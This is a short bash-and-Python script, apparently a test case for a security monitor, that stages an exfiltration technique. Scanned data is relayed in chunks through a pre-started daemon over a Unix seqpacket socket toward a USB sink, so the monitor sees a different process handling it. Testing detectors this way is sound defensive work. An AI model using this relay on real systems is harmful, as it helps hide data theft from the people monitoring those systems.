#!/usr/bin/env bash
# technique: a daemon started beforehand takes the scan from a Unix seqpacket socket
# hooks: unix_stream_connect, socket_recvmsg, file_open
# sink: usb

. attack.sh
python3 - <<'PY'
from attack import *

daemon = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
daemon.bind(f"{ROOM}/way")
daemon.listen()


def send():
    sender = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    sender.connect(f"{ROOM}/way")
    data = scan()[: 1 << 18]
    for start in range(0, len(data), 4096):
        sender.send(data[start : start + 4096])


apart(send)
keep(drain(daemon.accept()[0]))
PY
